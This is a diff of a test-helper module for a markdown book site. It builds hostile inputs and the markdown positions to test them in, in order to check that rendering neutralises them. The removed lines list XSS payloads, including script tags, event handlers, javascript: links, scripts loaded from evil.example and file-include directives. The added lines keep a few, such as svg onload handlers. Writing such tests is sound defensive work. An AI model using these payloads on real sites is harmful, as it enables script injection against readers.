@@ -1,64 +1,42 @@
-// Texts that attack the reader, the page and the tool, and the places of a topic file where they can stand.
+// Texts that attack the reader, the page and the tool, and the places where they can stand.
 //
-// `#` becomes the attack's number. A script that runs calls `hit(#)`; what loads comes from evil.example;
-// attributes that take effect are named `evil`; `text#x` and all of a long word must be readable in the end.
+// The texts are in tests/hostile, where the other tests find them: lines.json has lines, each for any place that
+// takes a text; every other file is a topic file. A script that runs calls `alert(1)`; what loads comes from evil.example;
+// attributes that take effect are named `evil`; `text1x` and `kept1` must be readable in the end. The `1` becomes a number.
+
+import { readFileSync, readdirSync } from 'node:fs'
+import path from 'node:path'
+
+import { ROOT } from './tools.mjs'
+
+const FOLDER = path.join(ROOT, 'tests', 'hostile')
 
 export const LONG_WORD = 'w'.repeat(10_000)
 
-/** An attack that must not act inside a text, each on one line. */
-export const ATTACKS = [
-  // Raw HTML.
-  '<script>hit(#)</script>',
-  '<ScRiPt src="https://evil.example/#.js"></sCrIpT>',
-  '</script><script>hit(#)</script>',
-  '</style><img src=x onerror=hit(#)>',
-  '</label></li></ul></main><b onmouseover=hit(#)>bold</b>',
-  '<img src=x onerror="hit(#)">',
-  '" onmouseover="hit(#)" x="',
-  "' onfocus=hit(#) autofocus x='",
-  '<svg onload=hit(#)><script>hit(#)</script></svg>',
-  '<iframe srcdoc="<script>parent.hit(#)</script>" src="https://evil.example/#"></iframe>',
-  '<details open ontoggle=hit(#)>details</details>',
-  '<form action="javascript:hit(#)"><button formaction="javascript:hit(#)">press</button></form>',
-  '<style>@import "https://evil.example/#.css"; main { display: none }</style>',
-  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/#">',
-  '<a href="javascript:hit(#)" id=evil class=evil>text#x</a>',
-  '&lt;script&gt;hit(#)&lt;/script&gt; &#60;img src=x onerror=hit(#)&#62;',
-  '`<script>hit(#)</script>` ``` <b onclick=hit(#)> ```',
-  '<!-- <script>hit(#)</script>',
-  '<!DOCTYPE evil [ <!ENTITY x "y"> <![CDATA[ <?php',
+/** Attacks of one line. */
+export const LINES = [...JSON.parse(readFileSync(path.join(FOLDER, 'lines.json'), 'utf8')), `text1x${LONG_WORD}`]
 
-  // Addresses.
-  '[text#x](javascript:hit(#))',
-  '[text#x](JaVaScRiPt:hit(#))',
-  '[text#x](javascript&colon;hit(#)) [text](&#106;avascript:hit(#))',
-  '[text#x](<java\tscript:hit(#)>) [text](java&Tab;script:hit(#)) [text](java&NewLine;script:hit(#))',
-  '[text#x](&#1;javascript:hit(#)) [text](<\u0001javascript:hit(#)>) [text](<  javascript:hit(#)>)',
-  '<javascript:hit(#)>',
-  '[text#x](vbscript:hit(#))',
-  '[text#x](data:text/html,<script>hit(#)</script>) [text](DATA:text/html;base64,PHNjcmlwdD4=)',
-  '[text#x][evil]',
-  '[text#x](https://example.org/# "title\\" onmouseover=\\"hit(#)")',
-  '[text#x](https://example.org/#"onmouseover="hit(#)) [text](<https://example.org/#?"onclick="hit(#)>)',
-  '[<img src=x onerror=hit(#)> text#x](https://example.org/#/text)',
-  'https://example.org/#"onmouseover="hit(#) https://example.org/#\'><script>hit(#)</script>',
+/** Attacks that are topic files, as `[name, text]`. */
+export const FILES = readdirSync(FOLDER).filter((name) => name.endsWith('.md')).sort()
+  .map((name) => [name.slice(0, -3), readFileSync(path.join(FOLDER, name), 'utf8')])
 
-  // What mdBook would act on.
-  '{{#include ../book.toml}}',
-  '{{#playground ../book.toml}}',
-  '{{#title evil}}',
-  '{{title}} {{{content}}} {{> head}}',
-  '{#evil .evil onclick=hit(#)}',
+/** An attack with a number of its own, which what it achieves will name. */
+export function numbered(attack, number) {
+  return attack.replaceAll(/alert\(1\)|text1x|evil\.example\/1/g, (found) => found.replace('1', number))
+}
 
-  // What only spoils the page.
-  `text#x${LONG_WORD}`,
-  '\u202Ereversed \u2066isolated \u200F',
-  '*open **open _open ~~open [open](open `open',
-  '| a | b | \\| c |',
-  'null\u0000null',
-]
+/** Puts `mark` before each line. */
+const everyLine = (text, mark) => text.replaceAll(/^(?=.)/gm, mark)
 
-/** Places in the list of a section whose role is known. */
+/** The text below the headings of a file. */
+const below = (text) => text.replaceAll(/^\ufeff?# [^\r\n]*[\r\n]+/gm, '')
+
+/** The file with headings of one kind. */
+const titled = (text, title) => text.replaceAll(/^(\ufeff?)# [^\r\n]*/gm, `$1# ${title}`)
+
+const cell = (attack) => attack.replaceAll('|', '\\|')
+
+/** Places of a line in the list of a section whose role is known. */
 export const TOPIC_PLACES = {
   title: (attack) => `- ${attack}`,
   'dated title': (attack) => `- [2024-01-02] ${attack}`,
@@ -68,19 +46,64 @@ export const TOPIC_PLACES = {
   'link title': (attack) => `- [text](https://example.org/title "${attack.replaceAll('"', '\\"')}")`,
   'link address': (attack) => `- [text](<https://example.org/${attack}>)`,
   'lead and tag': (attack) => `- topic @${attack} #${attack}`,
+  leader: (attack) => `- topic (led by ${attack})`,
   'nested item': (attack) => `- topic\n  - nested\n    1. ${attack}`,
+  note: (attack) => `- topic\n\n  ${attack}`,
+  'quotation of a topic': (attack) => `- topic\n  > ${attack}`,
+  'code of a topic': (attack) => `- topic\n\n      ${attack}`,
+  'picture of a topic': (attack) => `- topic ![${attack}](https://example.org/picture.png)`,
+  'referred footnote': (attack, number) => `- topic [^${number}]\n\n[^${number}]: ${attack}\n`,
+  footnote: (attack, number) => `- topic\n\n[^${number}]: ${attack}\n`,
 }
 
-/** Places in the file's own prose, which the book shows as it was written. */
+/** Places of a line in the file's own prose. */
 export const PROSE_PLACES = {
   paragraph: (attack) => attack,
   item: (attack) => `- ${attack}`,
+  task: (attack) => `- [ ] ${attack}`,
   heading: (attack) => `## ${attack}`,
-  'table cell': (attack) => `| a | b |\n|---|---|\n| ${attack.replaceAll('|', '\\|')} | cell |`,
+  'heading with attributes': (attack) => `## ${attack} {#evil .evil onclick=alert(1)}`,
+  'underlined heading': (attack) => `${attack}\n---`,
+  quotation: (attack) => `> ${attack}`,
+  admonition: (attack) => `> [!NOTE]\n> ${attack}`,
+  explanation: (attack) => `term\n: ${attack}`,
+  'explained word': (attack) => `${attack}\n: text`,
+  code: (attack) => `    ${attack}`,
+  fence: (attack) => `~~~~~\n${attack}\n~~~~~`,
+  'words of a fence': (attack) => `~~~~~ ${attack}\ntext\n~~~~~`,
+  'table cell': (attack) => `| a | b |\n|---|---|\n| ${cell(attack)} | cell |`,
+  'table header': (attack) => `| ${cell(attack)} | b |\n|---|---|\n| cell | cell |`,
+  'referred footnote': (attack, number) => `text [^${number}]\n\n[^${number}]: ${attack}`,
+  footnote: (attack, number) => `[^${number}]: ${attack}`,
+  picture: (attack) => `![${attack}](https://example.org/picture.png)`,
+  'reference to a definition': (attack, number) => `[${attack}][d${number}]\n\n[d${number}]: https://example.org/definition`,
+  'title of a definition': (attack, number) => `[text][d${number}]\n\n[d${number}]: https://example.org/definition "${attack.replaceAll('"', '\\"')}"`,
 }
 
-/** Beginnings that are never ended, and in HTML or Markdown swallow what follows. */
-export const OPENERS = [
-  '<!--', '```', '~~~', '<script>', '<style>', '<pre>', '<div', '<div>', '<![CDATA[', '<?open', '<textarea>', '<title>',
-  '<noscript>', '<template>', '<select>', '<table><tr><td>', '<svg>', '<math>', '<plaintext>', '<xmp>', '<a href="',
-]
+/** Places whose text is no text of the page. */
+export const UNSEEN_PLACES = ['picture', 'picture of a topic', 'link title', 'link address', 'words of a fence', 'title of a definition']
+
+/** What stands after an attack, and must not be drawn into it. */
+const AFTERWARDS = [
+  '', '', '# More links', '', 'kept91', '', '```', '<svg onload=alert(1)>', '```', '', '    <svg onload=alert(1)>', '', '# Ideas', '',
+  '- kept92 `<svg onload=alert(1)>`: [kept93](https://example.org/kept)', '',
+].join('\n')
+
+/** Places of a topic file's text in a topic file. */
+export const FILE_PLACES = {
+  scheduled: (text) => titled(text, 'Scheduled') + AFTERWARDS,
+  ideas: (text) => titled(text, 'Ideas') + AFTERWARDS,
+  discussed: (text) => titled(text, 'Discussed') + AFTERWARDS,
+  links: (text) => titled(text, 'Links') + AFTERWARDS,
+  unplaced: (text) => `# Discussed\n\n- [2020-01-07] A topic\n\nA word\n\n${below(text)}\n\n- [2020-01-14] A topic\n${AFTERWARDS}`,
+  topic: (text) => `# Ideas\n\n- A topic: [a](https://example.org/a)\n\n${everyLine(below(text), '  ')}\n\n- A topic\n${AFTERWARDS}`,
+  quotation: (text) => `# Links\n\n${everyLine(below(text), '> ')}${AFTERWARDS}`,
+  footnote: (text) => `# Links\n\nA word[^0].\n\n[^0]: A word\n\n${everyLine(below(text), '    ')}${AFTERWARDS}`,
+  meeting: (text) => `# Meetings\n\n## 2020-01-07: A topic\n\n${below(text)}\n\n## 2020-01-14: A topic\n\nkept94${AFTERWARDS}`,
+}
+
+/** Words of the book that a group can replace, by what they are named in book.toml. */
+export const WORDS = Array.from(
+  readFileSync(path.join(ROOT, 'src', 'book', 'words.rs'), 'utf8').matchAll(/^ {4}(\w+): "/gm),
+  ([, name]) => name.replaceAll('_', '-'),
+)
